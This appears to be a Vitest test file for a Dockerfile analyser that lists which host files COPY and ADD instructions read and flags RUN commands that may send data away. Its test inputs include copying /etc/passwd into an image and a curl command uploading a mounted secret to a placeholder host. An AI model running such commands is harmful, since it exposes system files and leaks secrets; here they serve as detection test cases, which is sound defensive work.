import { describe, expect, it, test } from 'vitest';

import { dockerfileFindings } from '../../../../packages/effects/src/programs/clientScripts.ts';

const values = (text: string): readonly unknown[] => dockerfileFindings(text).map(finding => 'value' in finding && finding.value);

describe('what the building of an image does here', () => {
  test.each([
    ['COPY a b /app/', ['a', 'b']],
    ['ADD --chown=u:g a /app/', ['a']],
    ['copy ["a b", "/app/"]', ['a b']],
    ['ONBUILD COPY . .', ['.']],
    ['COPY \\\n a \\\n /app/', ['a']],
    ['COPY /etc/passwd /app/', ['etc/passwd']],
    ['COPY / /app/', ['/']],
    // From another stage, the network or the text itself nothing of this machine is read.
    ['COPY --from=build /a /b', []],
    ['ADD https://a.example/x /x', []],
    ['COPY <<EOF /x', []],
    ['COPY [broken', []],
    ['FROM node', []],
    ['', []],
  ])('%j reads %j', (text, files) => {
    expect(values(text)).toEqual(files);
  });

  it('runs only what may send data away, inside of the container', () => {
    expect(dockerfileFindings('RUN npm ci')).toEqual([]);
    expect(dockerfileFindings('RUN --mount=type=secret,id=x curl -T /run/secrets/x https://a.example')).toEqual([
      { use: { as: 'shell', tags: ['container'] }, value: 'curl -T /run/secrets/x https://a.example' },
    ]);
  });
});
